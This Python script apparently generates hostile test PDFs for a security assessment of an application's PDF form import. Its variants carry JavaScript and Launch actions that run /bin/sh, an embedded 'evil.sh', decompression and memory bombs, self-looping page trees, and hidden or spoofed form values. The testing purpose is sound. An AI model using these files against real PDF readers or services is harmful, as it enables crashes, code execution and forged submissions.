#!/usr/bin/env python3
"""Hand-made PDFs for the session-27 attack on `application submit --pdf` (Poppler import).

mkpdf.py KIND OUT [ARGS]   KIND: see the functions named k_* below.
A form PDF has one page and text fields (name -> value) in /AcroForm; every field a widget on the page.
"""
import sys, zlib, datetime

def pdfstr(s):
    b = s.encode('utf-16-be')
    return b'<FEFF' + b.hex().upper().encode() + b'>'

class Pdf:
    def __init__(self):
        self.objs = []   # bytes bodies, index+1 = object number
    def add(self, body):
        self.objs.append(body if isinstance(body, bytes) else body.encode('latin-1'))
        return len(self.objs)
    def reserve(self):
        self.objs.append(None); return len(self.objs)
    def set(self, n, body):
        self.objs[n-1] = body if isinstance(body, bytes) else body.encode('latin-1')
    def stream(self, data, extra=b'', compress=False):
        if compress:
            data = zlib.compress(data, 9); extra += b'/Filter/FlateDecode'
        return self.add(b'<</Length %d%s>>stream\n' % (len(data), extra) + data + b'\nendstream')
    def bytes(self, root, header=b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', trailer_extra=b''):
        out = bytearray(header); offs = []
        for i, b in enumerate(self.objs):
            offs.append(len(out))
            out += b'%d 0 obj\n' % (i+1) + (b or b'null') + b'\nendobj\n'
        x = len(out)
        out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(self.objs)+1)
        for o in offs: out += b'%010d 00000 n \n' % o
        out += b'trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n' % (len(self.objs)+1, root, trailer_extra, x)
        return bytes(out)

def today():
    return (datetime.datetime.utcnow() + datetime.timedelta(hours=5)).strftime('%d.%m.%Y')

def default_fields(iin='900101300017'):
    return {'tirkeu_form': 'NCA-ISSUE-IND', 'iin': iin, 'surname': 'Kasymova', 'name': 'Aliya',
            'region': 'Almaty', 'city': 'Konaev', 'email': 'a@example.kz', 'phone': '+77011234567',
            'usage': 'sign', 'validity': '1y', 'key_media': 'file', 'application_date': today()}

def form_pdf(fields, extra_catalog=b'', extra_page=b'', widget_extra=None, npages=1, page_extra_objs=None, ap=None):
    """fields: list of (name, value) or dict; widget_extra: dict name -> bytes added to the widget dict."""
    p = Pdf()
    cat = p.reserve(); pages = p.reserve(); page = p.reserve()
    font = p.add('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>')
    items = list(fields.items()) if isinstance(fields, dict) else list(fields)
    refs = []
    y = 780
    for name, value in items:
        ext = (widget_extra or {}).get(name, b'')
        apref = b''
        if ap and name in ap:
            s = p.stream(b'BT /Helv 10 Tf 2 4 Td (%s) Tj ET' % ap[name].encode('latin-1'), b'/Type/XObject/Subtype/Form/BBox[0 0 300 16]/Resources<</Font<</Helv %d 0 R>>>>' % font)
            apref = b'/AP<</N %d 0 R>>' % s
        n = p.add(b'<</Type/Annot/Subtype/Widget/FT/Tx/T' + pdfstr(name) + b'/V' + (value if isinstance(value, bytes) else pdfstr(value)) +
                  b'/Rect[100 %d 400 %d]/P %d 0 R/DA(/Helv 10 Tf 0 g)/F 4' % (y, y+16, page) + apref + ext + b'>>')
        refs.append(n); y -= 20
    kids = [page]
    p.set(page, b'<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources<</Font<</Helv %d 0 R>>>>/Annots[%s]%s>>' %
          (pages, font, b' '.join(b'%d 0 R' % r for r in refs), extra_page))
    for i in range(npages - 1):
        kids.append(p.add(b'<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>' % pages))
    p.set(pages, b'<</Type/Pages/Kids[%s]/Count %d>>' % (b' '.join(b'%d 0 R' % k for k in kids), len(kids)))
    p.set(cat, b'<</Type/Catalog/Pages %d 0 R/AcroForm<</Fields[%s]/DA(/Helv 10 Tf 0 g)/DR<</Font<</Helv %d 0 R>>>>>>%s>>' %
          (pages, b' '.join(b'%d 0 R' % r for r in refs), font, extra_catalog))
    return p, cat

# ---------------------------------------------------------------- hostile variants
def raw_pdf(objs_bytes_list, root=1, trailer_extra=b''):
    p = Pdf()
    for b in objs_bytes_list: p.add(b)
    return p.bytes(root, trailer_extra=trailer_extra)

def variant(kind, f, args):
    if kind == 'plain':
        p, root = form_pdf(f); return p.bytes(root)
    if kind == 'actions':   # JavaScript open action, launch action, embedded file, URI action, XFA
        p, root = form_pdf(f)
        js = p.add(b'<</S/JavaScript/JS(app.alert\\("pwned"\\); this.exportDataObject\\({cName:"x"}\\);)>>')
        launch = p.add(b'<</S/Launch/F(/usr/bin/touch)/Win<</F(/bin/sh)/P(-c touch /tmp/attack27-launch)>>/Unix(/bin/sh -c "touch /tmp/attack27-launch")>>')
        ef = p.stream(b'#!/bin/sh\ntouch /tmp/attack27-embedded\n', b'/Type/EmbeddedFile')
        fs = p.add(b'<</Type/Filespec/F(evil.sh)/EF<</F %d 0 R>>>>' % ef)
        names = p.add(b'<</EmbeddedFiles<</Names[(evil.sh) %d 0 R]>>/JavaScript<</Names[(a) %d 0 R]>>>>' % (fs, js))
        # catalog: rebuild with OpenAction + AA + Names
        cat = p.objs[root-1]
        cat = cat[:-2] + b'/OpenAction %d 0 R/AA<</WC %d 0 R>>/Names %d 0 R>>' % (launch, js, names)
        p.set(root, cat)
        return p.bytes(root)
    if kind == 'notpdf':
        return b'\x89PNG\r\n\x1a\n' + b'\0' * 1000
    if kind == 'truncated':
        p, root = form_pdf(f); d = p.bytes(root); return d[:len(d)//2]
    if kind == 'truncated-tail':   # half the file, then a made-up "startxref ... %%EOF" so the end check passes
        p, root = form_pdf(f); d = p.bytes(root); return d[:len(d)*2//3] + b'\nstartxref\n999999\n%%EOF\n'
    if kind == 'count-huge':       # /Count 2^31-1 with one real page
        p, root = form_pdf(f); d = p.bytes(root); return d.replace(b'/Count 1>>', b'/Count 2147483647>>')
    if kind == 'pages-loop':       # a page tree whose Kids point back at itself
        p, root = form_pdf(f)
        pages = 2
        body = p.objs[pages-1]
        body = body.replace(b'/Kids[', b'/Kids[2 0 R ').replace(b'/Count 1', b'/Count 1000000')
        p.set(pages, body); return p.bytes(root)
    if kind == 'many-pages':       # N real (empty) pages
        n = int(args[1]) if len(args) > 1 else 100000
        p, root = form_pdf(f, npages=n); return p.bytes(root)
    if kind == 'many-fields':      # N extra text fields on the page (names x0..xN)
        n = int(args[1]) if len(args) > 1 else 100000
        ff = dict(f); 
        for i in range(n): ff['x%d' % i] = 'v'
        p, root = form_pdf(ff); return p.bytes(root)
    if kind == 'many-fields-paged':  # N extra text fields, PER of them on each page (quadratic lookups?)
        n = int(args[1]); per = int(args[2])
        p = Pdf(); cat = p.reserve(); pages = p.reserve()
        font = p.add('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>')
        items = list(f.items()) + [('x%d' % i, 'v') for i in range(n)]
        kids = []; refs = []
        for start in range(0, len(items), per):
            page = p.reserve(); kids.append(page); arefs = []
            for name, value in items[start:start+per]:
                r = p.add(b'<</Type/Annot/Subtype/Widget/FT/Tx/T' + pdfstr(name) + b'/V' + pdfstr(value) + b'/Rect[0 0 10 10]/P %d 0 R>>' % page)
                arefs.append(r); refs.append(r)
            p.set(page, b'<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Annots[%s]>>' % (pages, b' '.join(b'%d 0 R' % r for r in arefs)))
        p.set(pages, b'<</Type/Pages/Kids[%s]/Count %d>>' % (b' '.join(b'%d 0 R' % k for k in kids), len(kids)))
        p.set(cat, b'<</Type/Catalog/Pages %d 0 R/AcroForm<</Fields[%s]/DA(/Helv 10 Tf 0 g)/DR<</Font<</Helv %d 0 R>>>>>>>>' % (pages, b' '.join(b'%d 0 R' % r for r in refs), font))
        return p.bytes(cat)
    if kind == 'fields-objstm':  # like many-fields-paged, every object in compressed object streams + xref stream
        n = int(args[1]); per = int(args[2])
        objs = {}   # num -> body
        nxt = [1]
        def new(body=None):
            k = nxt[0]; nxt[0] += 1; objs[k] = body; return k
        cat = new(); pages = new()
        items = list(f.items()) + [('x%d' % i, '') for i in range(n)]
        kids = []; refs = []
        for start in range(0, len(items), per):
            page = new(); kids.append(page); arefs = []
            for name, value in items[start:start+per]:
                v = (b'/V' + pdfstr(value)) if value else b''
                r = new(b'<</Subtype/Widget/FT/Tx/T' + (pdfstr(name) if not name.startswith('x') else b'(' + name.encode() + b')') + v + b'/Rect[0 0 1 1]/P %d 0 R>>' % page)
                arefs.append(r); refs.append(r)
            objs[page] = b'<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]/Annots[%s]>>' % (pages, b' '.join(b'%d 0 R' % r for r in arefs))
        objs[pages] = b'<</Type/Pages/Kids[%s]/Count %d>>' % (b' '.join(b'%d 0 R' % k for k in kids), len(kids))
        objs[cat] = b'<</Type/Catalog/Pages %d 0 R/AcroForm<</Fields[%s]>>>>' % (pages, b' '.join(b'%d 0 R' % r for r in refs))
        # pack into object streams of 20000 objects
        nums = sorted(objs); out = bytearray(b'%PDF-1.7\n'); where = {}
        streams = []
        chunk = 20000
        for s in range(0, len(nums), chunk):
            part = nums[s:s+chunk]; parts = []; hdr = []; pos = 0
            for k in part:
                hdr.append(b'%d %d' % (k, pos)); parts.append(objs[k] + b'\n'); pos += len(objs[k]) + 1
            body = b''.join(parts)
            header = b' '.join(hdr) + b'\n'
            comp = zlib.compress(header + body, 9)
            sn = nxt[0]; nxt[0] += 1
            for i, k in enumerate(part): where[k] = (2, sn, i)
            where[sn] = (1, len(out), 0)
            out += b'%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n' % (sn, len(part), len(header), len(comp)) + comp + b'\nendstream\nendobj\n'
        xn = nxt[0]; xo = len(out); where[xn] = (1, xo, 0)
        rows = bytearray(b'\x00\x00\x00\x00\x00\xff\xff')
        for k in range(1, xn + 1):
            t, a, b = where[k]; rows += bytes([t]) + a.to_bytes(4, 'big') + b.to_bytes(2, 'big')
        comp = zlib.compress(bytes(rows), 9)
        out += b'%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root %d 0 R/Filter/FlateDecode/Length %d>>stream\n' % (xn, xn + 1, cat, len(comp)) + comp + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % xo
        return bytes(out)
    if kind == 'deep-array':       # a deeply nested array in the catalog
        n = int(args[1]) if len(args) > 1 else 100000
        p, root = form_pdf(f); cat = p.objs[root-1]
        p.set(root, cat[:-2] + b'/Deep ' + b'[' * n + b']' * n + b'>>'); return p.bytes(root)
    if kind == 'deep-dict-field':  # a field hierarchy 5000 parents deep: Parent chain of fields
        n = int(args[1]) if len(args) > 1 else 5000
        p, root = form_pdf(f)
        # make the iin widget's parent a chain of n parents, each naming "a"
        prev = None; first = None
        chain = []
        for i in range(n):
            chain.append(p.reserve())
        for i, num in enumerate(chain):
            par = b'/Parent %d 0 R' % chain[i+1] if i+1 < n else b''
            kids = b'/Kids[%d 0 R]' % chain[i-1] if i > 0 else b''
            p.set(num, b'<</T(a)' + par + kids + b'>>')
        return p.bytes(root)
    if kind == 'xref-size':        # classic xref, trailer /Size 2^31-2 (memory bomb attempt)
        p, root = form_pdf(f); d = p.bytes(root)
        return d.replace(b'trailer\n<</Size %d' % (len(p.objs)+1), b'trailer\n<</Size 2147483646')
    if kind == 'xrefstm-size':     # xref stream claiming /Size 200,000,000 (memory bomb attempt)
        p, root = form_pdf(f)
        out = bytearray(b'%PDF-1.7\n'); offs = []
        for i, b in enumerate(p.objs):
            offs.append(len(out)); out += b'%d 0 obj\n' % (i+1) + b + b'\nendobj\n'
        n = len(p.objs) + 1
        rows = b'\x00\x00\x00\x00\xff\xff' + b''.join(b'\x01' + o.to_bytes(4, 'big') + b'\x00' for o in offs)
        xo = len(out)
        rows += b'\x01' + xo.to_bytes(4, 'big') + b'\x00'
        size = int(args[1]) if len(args) > 1 else 200000000
        comp = zlib.compress(rows)
        out += b'%d 0 obj\n<</Type/XRef/Size %d/Index[0 %d]/W[1 4 1]/Root %d 0 R/Filter/FlateDecode/Length %d>>stream\n' % (n, size, n+1, root, len(comp)) + comp + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % xo
        return bytes(out)
    if kind == 'objstm-bomb':      # the field dictionaries in an object stream behind GBs of decompressed padding
        pad = int(args[1]) if len(args) > 1 else 1 << 30      # bytes of whitespace before the objects
        layers = int(args[2]) if len(args) > 2 else 1
        p, root = form_pdf(f)
        # move every widget (objects 5..) into one object stream after `pad` spaces
        nums = [i+1 for i, b in enumerate(p.objs) if b and b.startswith(b'<</Type/Annot')]
        body = b''; hdr = []
        for nnum in nums:
            hdr.append(b'%d %d' % (nnum, len(body))); body += p.objs[nnum-1] + b' '
        header = b' '.join(hdr) + b' '
        first = len(header) + pad
        # data = header + pad spaces + body, compressed without ever holding pad in memory
        def deflate_layers(chunks, layers):
            data = chunks
            for L in range(layers):
                c = zlib.compressobj(9); outp = []
                for ch in data:
                    outp.append(c.compress(ch))
                outp.append(c.flush()); data = outp
            return b''.join(data)
        def gen():
            yield header
            blk = b' ' * (1 << 20); left = pad
            while left > 0:
                k = min(left, len(blk)); yield blk[:k]; left -= k
            yield body
        comp = deflate_layers(gen(), layers)
        filt = b'[' + b'/FlateDecode' * layers + b']'
        stm = p.add(b'<</Type/ObjStm/N %d/First %d/Filter%s/Length %d>>stream\n' % (len(nums), first, filt, len(comp)) + comp + b'\nendstream')
        # write: normal objects except the widgets, then an xref stream with type-2 entries
        out = bytearray(b'%PDF-1.7\n'); offs = {}
        for i, b in enumerate(p.objs):
            if (i+1) in nums: continue
            offs[i+1] = len(out); out += b'%d 0 obj\n' % (i+1) + b + b'\nendobj\n'
        xn = len(p.objs) + 1
        xo = len(out)
        rows = b'\x00' + (0).to_bytes(4, 'big') + b'\xff'
        for i in range(1, xn):
            if i in nums: rows += b'\x02' + stm.to_bytes(4, 'big') + bytes([nums.index(i)])
            else: rows += b'\x01' + offs[i].to_bytes(4, 'big') + b'\x00'
        rows += b'\x01' + xo.to_bytes(4, 'big') + b'\x00'
        out += b'%d 0 obj\n<</Type/XRef/Size %d/W[1 4 1]/Root %d 0 R/Length %d>>stream\n' % (xn, xn+1, root, len(rows)) + rows + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % xo
        return bytes(out)
    if kind == 'hidden-value':     # the widget shows one IIN (appearance stream), /V holds another
        shown = args[1]
        p, root = form_pdf(f, ap={'iin': shown, 'surname': 'Kasymova'})
        return p.bytes(root)
    if kind == 'hidden-field':     # a second 'email' widget of the same field, hidden and off the page
        p, root = form_pdf(f, widget_extra={'email': b'/F 2'})
        return p.bytes(root)
    if kind == 'orphan-widget':    # a widget on the page that is not in /AcroForm /Fields, same name, other value
        p, root = form_pdf(f)
        page = 3
        w = p.add(b'<</Type/Annot/Subtype/Widget/FT/Tx/T(iin)/V(%s)/Rect[0 0 0 0]/P 3 0 R/F 2>>' % args[1].encode())
        body = p.objs[page-1].replace(b'/Annots[', b'/Annots[%d 0 R ' % w); p.set(page, body)
        return p.bytes(root)
    if kind == 'persons':          # GOV-ISSUE letter with N persons rows (persons.<i>.* names)
        return None
    if kind == 'encrypted':
        return None
    raise SystemExit('unknown kind ' + kind)

if __name__ == '__main__':
    kind, out = sys.argv[1], sys.argv[2]
    args = sys.argv[3:]
    f = default_fields(args[0]) if args else default_fields()
    data = variant(kind, f, args)
    open(out, 'wb').write(data)
